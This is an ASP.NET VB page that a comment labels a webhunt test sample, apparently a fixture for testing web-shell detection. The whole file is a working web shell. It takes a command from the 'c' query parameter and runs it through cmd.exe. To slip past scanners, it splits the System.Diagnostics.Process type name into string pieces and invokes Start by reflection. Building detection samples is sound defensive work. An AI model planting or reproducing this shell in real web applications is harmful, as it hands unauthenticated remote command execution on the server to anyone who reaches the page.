<%@ Page Language="VB" %>
<%-- webhunt test sample (sweep 73): VB.NET, the process class named in pieces ("System.Diag" is
     not where the split falls) and started through InvokeMember --%>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim c As String = Request.QueryString("c")
    If c Is Nothing Then Return
    Dim t As Type = Type.GetType("System.Dia" + "gnostics.Pro" + "cess, System")
    Dim p As Object = t.InvokeMember("Start", Reflection.BindingFlags.InvokeMethod Or Reflection.BindingFlags.Static Or Reflection.BindingFlags.Public, Nothing, Nothing, New Object() {"cmd.exe", "/c " & c})
    Response.Write(p IsNot Nothing)
End Sub
</script>
